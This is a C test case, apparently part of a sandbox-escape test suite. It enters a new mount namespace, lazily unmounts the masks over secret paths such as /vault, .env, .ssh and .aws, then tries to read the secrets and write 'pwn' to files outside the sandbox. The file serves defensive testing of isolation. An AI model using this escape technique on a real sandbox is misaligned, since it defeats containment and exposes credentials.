// id: FS-08
// title: nested user+mount namespace, lazy-unmount every mask, then read/write what is below
// class: boundary
// expect: userns refused, or umount gives EINVAL (locked mounts); secret unread, outside unchanged
// layer: seccomp/--disable-userns; kernel locked mounts as backstop
#include "../lib/atk.h"
int main(int c, char **v)
{
	atk_init(v);
	int r = newns(CLONE_NEWNS);
	if (r)
		blocked("userns: %s", strerror(-r));
	char p[4300];
	const char *m[] = { "/vault",
			    "/work/.env",
			    "/work/.git/hooks",
			    "/work/.git/config",
			    "/work/locked.txt",
			    "/home/.ssh",
			    "/home/.aws",
			    "/work",
			    "/outside",
			    "/home",
			    "/run",
			    "" };
	int un = 0;
	for (int k = 0; k < 3; k++)
		for (int i = 0; i < 12; i++) {
			snprintf(p, sizeof p, "%s%s", cfg("FX"), m[i]);
			if (!umount2(p, MNT_DETACH)) {
				un++;
				printf("unmounted %s\n", p);
			}
		}
	snprintf(p, sizeof p, "%s/vault/secret.txt", cfg("FX"));
	dump(p);
	snprintf(p, sizeof p, "%s/work/.env", cfg("FX"));
	dump(p);
	snprintf(p, sizeof p, "%s/outside/canary.txt", cfg("FX"));
	if (!putfile(p, "pwn"))
		escaped("wrote %s", p);
	snprintf(p, sizeof p, "%s/work/locked.txt", cfg("FX"));
	if (!putfile(p, "pwn"))
		escaped("wrote %s", p);
	blocked("unmounted %d, no access", un);
}
